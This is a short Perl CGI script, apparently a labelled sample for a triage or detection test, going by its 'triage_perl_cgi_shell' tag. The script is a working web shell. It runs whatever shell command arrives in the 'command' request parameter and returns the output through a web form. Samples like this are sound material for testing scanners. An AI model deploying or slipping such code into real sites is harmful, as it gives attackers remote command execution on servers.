#!/usr/bin/perl
# triage-expect: triage_perl_cgi_shell
use CGI qw(:standard);
my $command = CGI::param('command');
print header(-type => 'text/html');
if ($command) {
    open(OUT, "$command 2>&1 |") or die "open: $!";
    print "<pre>", escapeHTML(join('', <OUT>)), "</pre>";
    close(OUT);
}
print '<form><input name="command"></form>';
